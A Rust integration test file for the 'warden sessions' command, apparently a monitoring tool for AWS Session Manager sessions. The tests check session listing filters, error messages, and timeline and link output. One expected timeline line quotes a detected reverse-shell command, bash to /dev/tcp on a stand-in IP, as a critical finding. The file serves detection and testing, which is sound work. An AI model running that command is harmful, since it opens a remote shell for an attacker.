//! `warden sessions` as an investigator runs it, on a replay state file of the sample events:
//! which sessions a question selects, and one session's timeline and links.

use serde_json::Value;
use std::path::PathBuf;
use std::process::{Command, Output};

const EVENTS: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/events");

fn warden(args: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_warden"));
    command.args(args);
    for (name, _) in std::env::vars_os() {
        let name = name.to_string_lossy().into_owned();
        if name.starts_with("WARDEN_") || name.starts_with("AWS_") {
            command.env_remove(name);
        }
    }
    command.output().expect("warden runs")
}

/// A state file of the sample events, removed when dropped.
struct State(PathBuf);

impl State {
    fn replayed(name: &str) -> State {
        let path = std::env::temp_dir().join(format!(
            "warden-sessions-{name}-{}.json",
            std::process::id()
        ));
        let _ = std::fs::remove_file(&path);
        let out = warden(&["replay", "--state", path.to_str().unwrap(), EVENTS]);
        assert!(out.status.success(), "{out:?}");
        State(path)
    }

    fn path(&self) -> &str {
        self.0.to_str().unwrap()
    }

    fn sessions(&self, args: &[&str]) -> Output {
        let mut all = vec!["sessions"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--state", self.path()]);
        warden(&all)
    }

    /// The ids `sessions list ARGS --format json` prints, in order.
    fn listed(&self, args: &[&str]) -> Vec<String> {
        let mut all = vec!["list", "--format", "json"];
        all.extend_from_slice(args);
        let out = self.sessions(&all);
        assert!(out.status.success(), "{args:?}: {out:?}");
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(|l| {
                let v: Value = serde_json::from_str(l).unwrap();
                v["session_id"].as_str().unwrap().to_string()
            })
            .collect()
    }
}

impl Drop for State {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn short(ids: &[String]) -> Vec<&str> {
    ids.iter()
        .map(|id| id.rsplit_once('-').map_or(id.as_str(), |(name, _)| name))
        .collect()
}

#[test]
fn list_selects_by_every_condition_given() {
    let state = State::replayed("list");
    assert_eq!(
        short(&state.listed(&["--flagged", "--active"])),
        ["judy", "carol", "erin"]
    );
    assert_eq!(short(&state.listed(&["--user", "CAROL"])), ["carol"]);
    assert_eq!(
        short(&state.listed(&["--user", "*/Operator/*", "--limit", "1"])),
        ["judy"]
    );
    assert_eq!(
        short(&state.listed(&["--instance", "i-0d3e4f5a6b7c81920"])),
        ["frank", "erin"]
    );
    assert!(state.listed(&["--account", "999999999999"]).is_empty());
    assert_eq!(
        state.listed(&["--account", "111122223333"]).len(),
        state.listed(&[]).len()
    );
    // Open at any time since the 28th: the sessions still active, and those that ended since.
    let since = state.listed(&["--since", "2026-11-28"]);
    let since = short(&since);
    assert!(since.contains(&"carol") && since.contains(&"dana@example.com"));
    assert!(!since.contains(&"bob"), "{since:?}");
    assert_eq!(
        state.listed(&["--since", "2026-11-28T00:00:00+00:00"]),
        state.listed(&["--since", "2026-11-28"])
    );
    // An age counts back from now: the samples are in the past or the future, never both.
    assert!(state.listed(&["--since", "1w"]).len() >= state.listed(&["--active"]).len());
}

#[test]
fn list_prints_a_table_or_says_nothing_matched() {
    let state = State::replayed("table");
    let out = state.sessions(&["list", "--user", "carol"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.starts_with("SESSION "), "{text}");
    assert!(
        text.contains("\ncarol-5e48b7f8b97acc971  active  carol"),
        "{text}"
    );
    let none = state.sessions(&["list", "--user", "nobody"]);
    assert!(none.status.success());
    assert!(none.stdout.is_empty());
    assert_eq!(String::from_utf8_lossy(&none.stderr), "no sessions match\n");
}

#[test]
fn an_unreadable_since_says_what_it_takes() {
    let state = State::replayed("since");
    for bad in ["yesterday", "2 h", "3 days"] {
        let out = state.sessions(&["list", "--since", bad]);
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(out.stdout.is_empty());
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("--since:") && err.contains("RFC 3339"),
            "{err}"
        );
    }
}

#[test]
fn show_tells_the_session_in_time_order_with_links() {
    let state = State::replayed("show");
    let out = state.sessions(&["show", "carol-5e48b7f8b97acc971"]);
    assert!(out.status.success());
    let text = String::from_utf8_lossy(&out.stdout);
    let timeline: Vec<&str> = text
        .lines()
        .skip_while(|l| *l != "TIMELINE")
        .skip(1)
        .take_while(|l| !l.is_empty())
        .collect();
    let kinds: Vec<&str> = timeline
        .iter()
        .map(|l| l.split_whitespace().nth(1).unwrap())
        .collect();
    assert_eq!(
        kinds[..4],
        ["start", "transcript", "finding", "finding"],
        "{text}"
    );
    assert!(
        timeline[0].starts_with("  2026-11-28T23:12:05Z  start "),
        "{text}"
    );
    assert!(
        timeline[3].ends_with(
            "remote_exec_c2.reverse_shell (critical, terminate) line 5: bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        ),
        "{text}"
    );
    // The replay's alerts and dry-run termination, at the time it made them.
    assert!(
        kinds.contains(&"alert") && kinds.contains(&"termination"),
        "{text}"
    );
    assert!(
        text.contains(
            "\nLINKS\n  Sessions:    https://eu-west-1.console.aws.amazon.com/systems-manager/session-manager/sessions?region=eu-west-1&tab=history\n"
        ),
        "{text}"
    );
    assert!(text.contains("  Transcript:  https://"), "{text}");
    assert!(text.contains("  CloudTrail:  https://"), "{text}");
}

#[test]
fn show_json_carries_the_timeline_and_links() {
    let state = State::replayed("json");
    let out = state.sessions(&["show", "bob-2731a0ce76f67ca89", "--format", "json"]);
    let value: Value = serde_json::from_slice(&out.stdout).unwrap();
    let kinds: Vec<&str> = value["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds[0], "start");
    assert!(kinds.contains(&"end"), "{value}");
    assert_eq!(value["timeline"][0]["at"], "2026-11-23T13:02:11Z");
    assert!(
        value["links"]["cloudtrail_event"]
            .as_str()
            .unwrap()
            .ends_with("#/events/816f116c-9967-40f4-81bd-940d5331a905"),
        "{value}"
    );
    assert_eq!(value["alerts"][0]["kind"], "no_mfa");
}

#[test]
fn without_a_source_it_says_where_sessions_can_come_from() {
    let out = warden(&["sessions", "list"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("--state FILE") && err.contains("--table NAME"),
        "{err}"
    );
}
